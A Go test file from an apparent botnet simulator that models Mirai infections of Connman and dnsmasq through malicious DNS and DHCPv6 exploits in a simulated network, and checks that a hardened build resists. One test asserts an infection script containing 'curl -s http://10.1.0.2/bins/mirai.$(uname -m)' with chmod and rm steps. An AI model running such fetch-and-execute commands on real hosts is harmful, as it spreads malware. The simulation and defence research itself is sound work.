package attacker

import (
	"strings"
	"testing"

	"ddosim/internal/binaries/connman"
	"ddosim/internal/binaries/dnsmasq"
	imagecat "ddosim/internal/binaries/image"
	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/procvm"
	"ddosim/internal/sim"
)

type rig struct {
	sched  *sim.Scheduler
	star   *netsim.Star
	engine *container.Engine
}

func newRig(t testing.TB) *rig {
	t.Helper()
	sched := sim.NewScheduler(17)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	return &rig{sched: sched, star: star, engine: container.NewEngine(sched, star)}
}

func devContainer(t *testing.T, r *rig, name, bin string) *container.Container {
	t.Helper()
	ref := "ddosim/devtest-" + name + ":t"
	img := &container.Image{
		Name: "ddosim/devtest-" + name, Tag: "t", Arch: "x86_64",
		Files:     map[string][]byte{"/usr/sbin/" + bin: container.BinaryContent(bin, "x86_64")},
		ExecPaths: map[string]bool{"/usr/sbin/" + bin: true},
	}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create(ref, name, container.LinkConfig{
		Rate: 300 * netsim.Kbps, Delay: 2 * sim.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	return c
}

func TestDeploySubcomponents(t *testing.T) {
	r := newRig(t)
	a, err := Deploy(r.engine, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if a.CNC == nil || a.FileServer == nil || a.DNS == nil || a.DHCP == nil {
		t.Fatalf("missing subcomponents: %+v", a)
	}
	if !strings.HasPrefix(a.ScriptURL(), "http://") || !strings.HasSuffix(a.ScriptURL(), "/i.sh") {
		t.Fatalf("script URL = %q", a.ScriptURL())
	}
	if a.CNCAddr().Port() != 23 {
		t.Fatalf("CNC addr = %v", a.CNCAddr())
	}
	// Four processes run in the attacker container.
	if got := len(a.Container.Procs()); got != 4 {
		t.Fatalf("attacker processes = %d", got)
	}
}

func TestConnmanEndToEndInfection(t *testing.T) {
	// The complete Connman channel: daemon resolves against the
	// malicious DNS server, gets the ROP payload, curls the script,
	// runs the bot, and registers with the C&C.
	r := newRig(t)
	a, err := Deploy(r.engine, Config{})
	if err != nil {
		t.Fatal(err)
	}
	c := devContainer(t, r, "dev-c", imagecat.BinConnman)
	c.FS().Write("/etc/resolv.conf",
		[]byte("nameserver "+a.Container.Node().Addr4().String()+"\n"))
	var outcome procvm.HijackOutcome
	c.Spawn(connman.New(connman.Config{
		Protections: procvm.Protections{WX: true, ASLR: true},
		QueryPeriod: 3 * sim.Second,
		OnOutcome:   func(o procvm.HijackOutcome) { outcome = o },
	}))

	if err := r.sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if a.DNS.QueriesServed == 0 {
		t.Fatal("malicious DNS served nothing")
	}
	if !outcome.Hijacked || outcome.ExecutedShell == "" {
		t.Fatalf("outcome = %+v", outcome)
	}
	if !strings.Contains(outcome.ExecutedShell, "curl -s "+a.ScriptURL()) {
		t.Fatalf("executed %q", outcome.ExecutedShell)
	}
	if a.CNC.BotCount() != 1 {
		t.Fatalf("bot count = %d\nlogs: %v", a.CNC.BotCount(), c.Logs())
	}
	if a.FileServer.Requests < 2 { // script + binary
		t.Fatalf("file server requests = %d", a.FileServer.Requests)
	}
	// Mirai removed its binary and obfuscated its name.
	if c.FS().Exists("/tmp/.mirai") {
		t.Fatal("bot binary still on disk")
	}
}

func TestDnsmasqEndToEndInfection(t *testing.T) {
	r := newRig(t)
	a, err := Deploy(r.engine, Config{})
	if err != nil {
		t.Fatal(err)
	}
	c := devContainer(t, r, "dev-d", imagecat.BinDnsmasq)
	var outcome procvm.HijackOutcome
	c.Spawn(dnsmasq.New(dnsmasq.Config{
		Protections: procvm.Protections{WX: true},
		OnOutcome:   func(o procvm.HijackOutcome) { outcome = o },
	}))
	if err := r.sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if a.DHCP.MessagesSent == 0 {
		t.Fatal("DHCPv6 exploit sent nothing")
	}
	if outcome.ExecutedShell == "" {
		t.Fatalf("dnsmasq not exploited: %+v\nlogs: %v", outcome, c.Logs())
	}
	if a.CNC.BotCount() != 1 {
		t.Fatalf("bot count = %d", a.CNC.BotCount())
	}
}

func TestInfectionScriptShape(t *testing.T) {
	script := InfectionScript("10.1.0.2")
	if !strings.Contains(script, "curl -s http://10.1.0.2/bins/mirai.$(uname -m)") {
		t.Fatalf("script = %q", script)
	}
	if !strings.Contains(script, "chmod +x") || !strings.Contains(script, "rm -f") {
		t.Fatal("script missing chmod/rm steps")
	}
}

func TestHardenedDevResistsBothChannels(t *testing.T) {
	r := newRig(t)
	a, err := Deploy(r.engine, Config{})
	if err != nil {
		t.Fatal(err)
	}
	cd := devContainer(t, r, "dev-hd", imagecat.BinDnsmasq)
	var out procvm.HijackOutcome
	cd.Spawn(dnsmasq.New(dnsmasq.Config{
		Protections: procvm.Protections{WX: true, ASLR: true},
		Program:     imagecat.HardenedDnsmasq(),
		OnOutcome:   func(o procvm.HijackOutcome) { out = o },
	}))
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if out.ExecutedShell != "" {
		t.Fatal("hardened dnsmasq exploited")
	}
	if !out.Crashed() {
		t.Fatal("hardened dnsmasq did not crash on exploit attempt")
	}
	if a.CNC.BotCount() != 0 {
		t.Fatal("hardened dev registered as bot")
	}
}
